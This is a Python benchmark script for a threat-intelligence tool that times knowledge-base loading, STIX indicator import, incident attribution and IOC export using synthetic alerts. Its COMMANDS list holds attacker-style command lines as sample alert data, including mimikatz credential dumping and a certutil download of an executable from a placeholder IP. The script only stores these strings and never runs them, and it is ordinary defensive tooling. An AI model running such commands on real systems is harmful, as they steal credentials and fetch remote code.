"""Threat-intelligence benchmark: knowledge-base load, attribution and IOC export of an incident.

    python -m bench.bench_intel --alerts 100 [--runs 5] [--indicators 5000]

Load: parse the MISP galaxies and write them into a fresh database (median of runs, each in a
new file). Attribution: an incident of N synthetic alerts (titles, command lines, IPs, URLs,
hashes, ATT&CK techniques) against the loaded knowledge base plus an imported STIX bundle of
indicators; the first call builds the cached weights (cold), later calls reuse them (warm).
"""

from __future__ import annotations

import argparse
import json
import os
import platform
import random
import statistics
import tempfile
import time
import uuid
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

from tui.intel import attribute_incident, csv_text, incident_iocs, stix_bundle, update
from tui.intel.galaxy import build
from tui.intel.stix import import_bundle
from tui.model import Alert, EntityType, Severity, entity_key
from tui.model.alert import Entity
from tui.model.clock import iso, utcnow
from tui.store import Store, transaction
from tui.store.alerts import upsert_alerts

START = datetime(2024, 6, 1, tzinfo=UTC)
TECHNIQUES = (
    "T1059.001", "T1105", "T1078", "T1110.003", "T1046", "T1190", "T1003.001", "T1021.001",
    "T1071.001", "T1566.001", "T1053.005", "T1547.001", "T1027", "T1562.001", "T1486",
)  # fmt: skip
COMMANDS = (
    "powershell.exe -nop -w hidden -enc SQBFAFgA",
    'cmd.exe /c whoami /all & net group "domain admins" /domain',
    r"C:\ProgramData\mimikatz.exe sekurlsa::logonpasswords",
    "rundll32.exe C:\\Users\\Public\\beacon.dll,StartW",
    "schtasks /create /tn Updater /tr C:\\Temp\\upd.exe /sc minute",
    "certutil -urlcache -f http://198.51.100.7/a.exe a.exe",
)


def machine() -> str:
    cpu = next(
        (
            line.split(":", 1)[1].strip()
            for line in Path("/proc/cpuinfo").read_text().splitlines()
            if line.startswith("model name")
        ),
        platform.processor(),
    )
    mem_kb = next(
        int(line.split()[1])
        for line in Path("/proc/meminfo").read_text().splitlines()
        if line.startswith("MemTotal")
    )
    return f"{os.cpu_count()} cores, {mem_kb / 1024 / 1024:.1f} GiB, {cpu}"


def timed(fn: Callable[[], object]) -> float:
    started = time.perf_counter()
    fn()
    return time.perf_counter() - started


def bench_load(runs: int, folder: Path) -> dict[str, float]:
    parse = [timed(build) for _ in range(runs)]
    total = []
    for run in range(runs):
        store = Store(folder / f"load-{run}.db")
        total.append(timed(lambda s=store: update(s)))
        store.close()
    return {"parse_s": statistics.median(parse), "parse_and_write_s": statistics.median(total)}


def _entity(kind: EntityType, value: str) -> Entity:
    return Entity(kind, value, entity_key(kind, value))


def synthetic_alerts(n: int, rng: random.Random) -> list[Alert]:
    alerts = []
    for i in range(n):
        when = iso(START + timedelta(minutes=i))
        ip = f"185.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        entities = [
            _entity(EntityType.IP, ip),
            _entity(EntityType.PROCESS, rng.choice(COMMANDS)),
            _entity(EntityType.URL, f"https://cdn{rng.randrange(50)}.example.net/p/{i}"),
            _entity(EntityType.FILE_HASH, f"{rng.getrandbits(256):064x}"),
        ]
        alerts.append(
            Alert(
                source_id=f"bench-intel-{i}",
                source_format="defender",
                alert_type="VM_Bench",
                alert_display_name=f"Suspicious activity {i} on host-{rng.randrange(20)}",
                severity=Severity.HIGH,
                start_time_utc=when,
                end_time_utc=when,
                description=f"Process {rng.choice(COMMANDS)} contacted {ip}",
                techniques=tuple(rng.sample(TECHNIQUES, 3)),
                entities=entities,
                raw=json.dumps({"i": i}),
            )
        )
    return alerts


def file_incident(store: Store, alerts: list[Alert]) -> int:
    ids = upsert_alerts(store.conn, alerts).new_ids
    now = utcnow()
    with transaction(store.conn) as conn:
        cur = conn.execute(
            "INSERT INTO incidents (title, severity, severity_rank, first_activity_utc,"
            " last_activity_utc, alert_count, created_at, updated_at)"
            " VALUES ('bench', 'High', 3, ?, ?, ?, ?, ?)",
            (alerts[0].start_time_utc, alerts[-1].start_time_utc, len(ids), now, now),
        )
        conn.executemany(
            "INSERT INTO incident_alerts (alert_id, incident_id, joined_at) VALUES (?, ?, ?)",
            [(aid, cur.lastrowid, now) for aid in ids],
        )
    return cur.lastrowid


def indicator_bundle(path: Path, count: int, rng: random.Random, seen: list[str]) -> Path:
    """`count` IP indicators of one group; the IPs in `seen` are among them, so matches happen."""
    now = "2024-01-01T00:00:00.000Z"
    group = {"type": "intrusion-set", "spec_version": "2.1", "id": f"intrusion-set--{uuid.uuid4()}",
             "created": now, "modified": now, "name": "Bench Group"}  # fmt: skip
    objects: list[dict] = [group]
    for n in range(count):
        ip = (
            seen[n]
            if n < len(seen)
            else f"185.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        )
        ind = {"type": "indicator", "spec_version": "2.1", "id": f"indicator--{uuid.uuid4()}",
               "created": now, "modified": now, "pattern": f"[ipv4-addr:value = '{ip}']",
               "pattern_type": "stix", "valid_from": now}  # fmt: skip
        rel = {"type": "relationship", "spec_version": "2.1", "id": f"relationship--{uuid.uuid4()}",
               "created": now, "modified": now, "relationship_type": "indicates",
               "source_ref": ind["id"], "target_ref": group["id"]}  # fmt: skip
        objects += [ind, rel]
    path.write_text(
        json.dumps({"type": "bundle", "id": f"bundle--{uuid.uuid4()}", "objects": objects})
    )
    return path


def bench_attribution(alerts: int, runs: int, indicators: int, folder: Path) -> dict[str, float]:
    rng = random.Random(8)
    store = Store(folder / "attribution.db")
    update(store)
    incident = synthetic_alerts(alerts, rng)
    seen = [e.key for a in incident[::10] for e in a.entities if e.type is EntityType.IP]
    bundle = indicator_bundle(folder / "bundle.json", indicators, rng, seen)
    import_s = timed(lambda: import_bundle(store, bundle))
    incident_id = file_incident(store, incident)
    cold = timed(lambda: attribute_incident(store, incident_id))
    assert attribute_incident(store, incident_id).groups[0].name == "Bench Group"
    warm = [timed(lambda: attribute_incident(store, incident_id)) for _ in range(runs)]

    def export() -> None:
        iocs = incident_iocs(store, incident_id)
        stix_bundle(iocs, incident_id=incident_id, title="bench", malicious=False)
        csv_text(iocs)

    exports = [timed(export) for _ in range(runs)]
    store.close()
    return {
        "stix_import_s": import_s,
        "attribution_cold_s": cold,
        "attribution_warm_s": statistics.median(warm),
        "ioc_export_s": statistics.median(exports),
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--alerts", type=int, default=100, help="alerts in the incident")
    parser.add_argument("--runs", type=int, default=5)
    parser.add_argument("--indicators", type=int, default=5000, help="STIX indicators imported")
    args = parser.parse_args()
    print(f"machine: {machine()}")
    with tempfile.TemporaryDirectory(prefix="bench-intel-") as tmp:
        folder = Path(tmp)
        load = bench_load(args.runs, folder)
        attribution = bench_attribution(args.alerts, args.runs, args.indicators, folder)
    print(f"knowledge base ({args.runs} runs, median):")
    print(f"  parse galaxies           {load['parse_s'] * 1000:8.0f} ms")
    print(f"  parse + write (update)   {load['parse_and_write_s'] * 1000:8.0f} ms")
    print(f"incident of {args.alerts} alerts, {args.indicators} STIX indicators imported:")
    print(f"  STIX bundle import       {attribution['stix_import_s'] * 1000:8.0f} ms")
    print(f"  attribution, cold        {attribution['attribution_cold_s'] * 1000:8.0f} ms")
    print(f"  attribution, warm        {attribution['attribution_warm_s'] * 1000:8.0f} ms")
    print(f"  IOC export (STIX + CSV)  {attribution['ioc_export_s'] * 1000:8.0f} ms")


if __name__ == "__main__":
    main()
